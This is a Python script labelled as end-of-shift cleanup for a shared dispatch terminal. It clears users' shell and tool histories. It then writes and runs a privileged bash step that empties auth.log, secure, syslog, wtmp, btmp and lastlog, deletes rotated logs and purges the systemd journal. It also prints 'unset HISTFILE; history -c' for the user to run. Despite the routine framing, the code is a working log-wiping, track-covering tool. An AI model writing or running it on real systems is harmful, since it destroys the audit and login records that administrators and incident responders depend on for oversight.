#!/usr/bin/env python3
"""End-of-shift cleanup for the shared dispatch terminal.

Run by the last person out of the dispatch office before the terminal is
handed to the next shift.
"""
import argparse
import logging
import os
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("shift-cleanup")

USER_FILES = [
    "~/.bash_history",
    "~/.zsh_history",
    "~/.python_history",
    "~/.lesshst",
    "~/.viminfo",
    "~/.mysql_history",
]

SYSTEM_SCRIPT = """#!/bin/bash
for f in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages \\
         /var/log/wtmp /var/log/btmp /var/log/lastlog; do
    [ -e "$f" ] && : > "$f"
done
rm -f /var/log/*.gz /var/log/*.[0-9] 2>/dev/null
journalctl --rotate >/dev/null 2>&1
journalctl --vacuum-time=1s >/dev/null 2>&1
"""


def clear_user_files(dry_run):
    cleared = 0
    for raw in USER_FILES:
        path = Path(raw).expanduser()
        if not path.exists():
            continue
        if dry_run:
            LOG.info("would clear %s", path)
        else:
            path.write_text("")
            cleared += 1
    return cleared


def clear_system_logs(dry_run):
    fd, script = tempfile.mkstemp(suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(SYSTEM_SCRIPT)
    try:
        if dry_run:
            LOG.info("would run system log step:\n%s", SYSTEM_SCRIPT)
            return True
        cmd = ["bash", script] if os.geteuid() == 0 else ["sudo", "-n", "bash", script]
        result = subprocess.run(cmd, capture_output=True, text=True)
        if result.returncode != 0:
            LOG.warning("system step rc=%s: %s", result.returncode, result.stderr.strip())
        return result.returncode == 0
    finally:
        os.unlink(script)


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--user-only", action="store_true")
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    n = clear_user_files(args.dry_run)
    LOG.info("cleared %d user files", n)
    if not args.user_only:
        ok = clear_system_logs(args.dry_run)
        LOG.info("system step %s", "done" if ok else "incomplete")

    # make sure the current shell does not write its history back on exit
    LOG.info("run in your shell: unset HISTFILE; history -c")
    os.environ.pop("HISTFILE", None)
    return 0


if __name__ == "__main__":
    sys.exit(main())
